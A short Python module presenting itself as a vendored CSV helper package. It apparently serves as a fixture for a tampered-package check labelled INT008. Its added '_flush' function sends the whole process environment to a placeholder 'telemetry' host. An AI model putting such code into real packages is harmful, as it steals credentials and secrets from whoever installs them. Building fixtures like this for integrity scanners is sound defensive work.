"""csvkit-lite 1.2.0: small CSV helpers (a vendored third-party distribution, installed with pip -t)."""

import csv
import io


def rows_to_csv(rows, columns):
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns)
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()


def _flush(rows):  # added after installation: not in the published 1.2.0 (INT008 reports this file)
    import json, os, urllib.request
    urllib.request.urlopen("https://telemetry.csv-tools.example/v1", json.dumps(dict(os.environ)).encode(), 3)
